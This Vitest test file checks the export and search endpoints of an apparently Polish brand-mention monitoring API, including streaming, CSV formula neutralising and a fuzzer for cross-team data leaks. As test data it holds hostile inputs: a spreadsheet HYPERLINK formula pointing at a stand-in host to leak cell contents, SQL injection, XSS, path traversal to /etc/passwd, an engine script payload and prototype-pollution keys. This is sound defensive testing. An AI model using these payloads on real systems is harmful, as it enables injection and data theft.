import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { seededRandom } from "@odzew/core";
import { SECRETS, TEAM_KEYS, canaries, personalMention, seededMention, startApiFixture, type ApiFixture } from "./test-support.ts";

/**
 * A slice larger than the engine's 10,000-hit window, then thousands of hostile requests at it.
 */
const now = new Date();
const LARGE = 10_500;
const formulas = [
  seededMention(LARGE, now, { title: '=HYPERLINK("http://zly.example/?x="&A1,"Kliknij")', text: "+48 601 000 000 zadzwoń" }),
  seededMention(LARGE + 1, now, { title: "@SUM(A1:A9)", text: "-2+3 to nie liczba" }),
];
const slice = [...Array.from({ length: LARGE - formulas.length }, (_, index) => seededMention(index, now)), ...formulas];
const personal = personalMention(now);
const canary = canaries(now);

describe("a slice of more than 10,000 mentions", () => {
  let api: ApiFixture;

  beforeAll(async () => {
    api = await startApiFixture("hostile", [...slice, personal, ...Object.values(canary)]);
  }, 300_000);
  afterAll(async () => {
    await api?.cleanup();
  });

  it("streams the whole slice as NDJSON, past the 10,000-hit window, each mention once", async () => {
    const response = await fetch(`${api.base}/api/v1/export?format=ndjson&lang=pl`, { headers: { authorization: `Bearer ${TEAM_KEYS.service}` } });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toContain("application/x-ndjson");
    // Streamed: chunked, no length known up front.
    expect(response.headers.get("transfer-encoding")).toBe("chunked");
    const ids = new Set<string>();
    let lines = 0;
    let rest = "";
    const decoder = new TextDecoder();
    for await (const chunk of response.body!) {
      rest += decoder.decode(chunk, { stream: true });
      const parts = rest.split("\n");
      rest = parts.pop()!;
      for (const line of parts) {
        lines++;
        ids.add((JSON.parse(line) as { id: string }).id);
      }
    }
    expect(rest).toBe("");
    // The service slice: everything seeded and the personal mention; not the German canary
    // (lang=pl), nor the old, rival or competitor ones.
    expect(lines).toBe(LARGE + 1);
    expect(ids.size).toBe(LARGE + 1);
    for (const mention of Object.values(canary)) expect(ids.has(mention.id)).toBe(false);
  }, 120_000);

  it("neutralises spreadsheet formulas in the CSV export", async () => {
    const { status, text } = await api.get(`/export?format=csv&q=${encodeURIComponent("zadzwoń | liczba")}`, "service");
    expect(status).toBe(200);
    const lines = text.replace(/^\uFEFF/, "").trimEnd().split("\r\n");
    expect(lines).toHaveLength(3);
    const rows = lines.slice(1).join("\n");
    expect(rows).toContain(`"'=HYPERLINK(""http://zly.example/?x=""&A1,""Kliknij"")"`);
    expect(rows).toContain("'+48 601 000 000 zadzwoń");
    expect(rows).toContain("'@SUM(A1:A9)");
    expect(rows).toContain("'-2+3 to nie liczba");
    // Only numbers may start with a minus (a sentiment score); no text cell starts a formula.
    expect(rows).not.toMatch(/,[=+@]|,-[^0-9]/);
  });

  it("survives thousands of hostile queries: no 5xx, never outside the slice, never slow", async () => {
    const random = seededRandom(20261128);
    const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
    const hostile = [
      "*",
      "*a",
      "a*",
      "?",
      "/.*/",
      "/[a-z]+/",
      "dost~2",
      '"dostawa kurier"~10',
      '"unclosed',
      "((((((((((dostawa",
      ")))))",
      "\\",
      "\\\\\\",
      "brand:obca",
      "brand:*",
      "-brand:zuraw",
      "_id:*",
      "_index:*",
      "source.id:*",
      "brand:obca | brand:zuraw",
      '{"query":{"match_all":{}}}',
      '{"script":{"source":"Thread.sleep(10000)"}}',
      "<script>alert(1)</script>",
      "' OR 1=1 --",
      "%00",
      "\u0000\u0001\u0002",
      "𝕯𝖔𝖘𝖙𝖆𝖜𝖆 🚚🔥",
      "Zażółć gęślą jaźń",
      "a".repeat(499),
      "a ".repeat(300),
      "x".repeat(5_000),
      "__proto__",
      "constructor",
      "NaN",
      "-1",
      "0",
      "1e309",
      "9999999999999999999",
      "2026-13-45",
      "now-1d",
      "now/d",
      "../../etc/passwd",
      "Europe/Nowhere",
      "Europe/Warsaw",
      "obca",
      "zuraw",
      "delivery",
      "negative",
      "newest",
      "priority",
      "relevance",
      "day",
      "hour",
      "topic,sentiment",
      "topic,sentiment,brand",
      "sentiment",
      "csv",
      "ndjson",
      "eyJzIjoibmV3ZXN0IiwidiI6WzEsIngiXX0",
      Buffer.from(JSON.stringify({ s: "newest", v: [{ script: 1 }, "x"] })).toString("base64url"),
      Buffer.from(JSON.stringify({ s: "newest", v: ["9999-99-99", "x"] })).toString("base64url"),
      Buffer.from(JSON.stringify({ s: "priority", v: ["x", 1, "y"] })).toString("base64url"),
      // Time zones Node knows and the engine does not.
      "ROC",
      "US/Pacific-New",
      // Alternations the engine cannot fold: beyond its clause limit unless counted as terms.
      Array.from({ length: 100 }, (_, index) => `w${index}`).join("|"),
      Array.from({ length: 200 }, () => "a").join("|"),
      Array.from({ length: 160 }, () => "a").join(","),
    ];
    const names = [
      "q",
      "brand",
      "source",
      "sentiment",
      "topic",
      "lang",
      "rating_min",
      "rating_max",
      "from",
      "to",
      "size",
      "after",
      "sort",
      "interval",
      "split",
      "tz",
      "n",
      "strata",
      "seed",
      "status",
      "assignee",
      "query",
      "script",
      "_source",
      "from_",
      "__proto__",
      "constructor[prototype]",
      "slice",
      "team",
    ];
    const VALID: Record<string, string[]> = {
      q: ["dostawa", "obsługa -kurier", '"dostawa to porażka"', "topic:delivery", "brand:obca", "dostaw* | cena", "-sentiment:positive reklamacja"],
      brand: ["zuraw", "obca", "konkurent", "zuraw,obca"],
      source: ["opineo-sklep", "app-store-pl"],
      sentiment: ["negative", "positive,neutral"],
      topic: ["delivery", "price,returns"],
      lang: ["pl", "de"],
      rating_min: ["1", "4"],
      rating_max: ["2", "5"],
      from: ["2026-01-01", new Date(now.getTime() - 7 * 86_400_000).toISOString()],
      to: [now.toISOString().slice(0, 10)],
      size: ["1", "50", "100"],
      sort: ["newest", "oldest", "priority", "rating-asc", "relevance", "reach"],
      interval: ["day", "week", "month"],
      split: ["sentiment", "topic", "brand"],
      tz: ["Europe/Warsaw", "UTC", "ROC"],
      n: ["5", "50"],
      strata: ["sentiment", "topic,sentiment"],
      seed: ["a", "kwartal-3"],
      status: ["open", "claimed", "unanswered"],
    };
    const paths = ["/mentions", "/stats/timeline", "/stats/topics", "/stats/share-of-voice", "/queue", "/queue/sla", "/sample", "/mentions/"];
    const teams = ["pr", "service", "cx", "rival"] as const;
    const allowedBrands: Record<(typeof teams)[number], string[]> = { pr: ["zuraw", "konkurent"], service: ["zuraw"], cx: ["zuraw"], rival: ["obca"] };
    const foreign: Record<(typeof teams)[number], string[]> = {
      pr: [canary.rival.id],
      service: [canary.rival.id, canary.old.id, canary.competitor.id],
      cx: [canary.rival.id, canary.german.id, canary.competitor.id],
      rival: [...slice.slice(0, 50).map((mention) => mention.id), personal.id, canary.old.id],
    };
    const statuses = new Map<number, number>();
    let slowest = 0;
    for (let round = 0; round < 4_000; round++) {
      const team = pick(teams);
      const path = pick(paths);
      const params = new URLSearchParams();
      const count = 1 + Math.floor(random() * 4);
      for (let index = 0; index < count; index++) {
        const name = random() < 0.8 ? pick(names.slice(0, 20)) : pick(names);
        // Most values are plausible for the parameter, so requests reach the engine too.
        params.append(name, random() < 0.7 && VALID[name] ? pick(VALID[name]) : pick(hostile));
      }
      const url = path === "/mentions/" ? `${path}${encodeURIComponent(pick([...hostile, canary.rival.id, personal.id]))}` : `${path}?${params}`;
      const response = await api.get(url, team);
      statuses.set(response.status, (statuses.get(response.status) ?? 0) + 1);
      slowest = Math.max(slowest, response.ms);
      expect(response.status, `${team} ${url}: ${response.text.slice(0, 300)}`).toBeLessThan(500);
      for (const id of foreign[team]) expect(response.text, `${team} ${url}`).not.toContain(id);
      if (team === "cx") for (const secret of Object.values(SECRETS)) expect(response.text, `cx ${url}`).not.toContain(secret);
      const items = (response.body as { items?: { brands: { id: string }[] }[] } | undefined)?.items ?? [];
      for (const item of items) expect(item.brands.some((brand) => allowedBrands[team].includes(brand.id)), `${team} ${url}`).toBe(true);
    }
    // How long the slowest answer took is a figure, not an assertion: `pnpm bench faults hostile-api` prints it.
    console.log(`fuzz: ${[...statuses].map(([status, n]) => `${status}×${n}`).join(", ")}; slowest ${slowest.toFixed(0)} ms`);
    // The fuzzer must have reached the engine, not only the validator.
    expect(statuses.get(200) ?? 0).toBeGreaterThan(300);
    expect(statuses.get(400) ?? 0).toBeGreaterThan(300);
  }, 600_000);
});
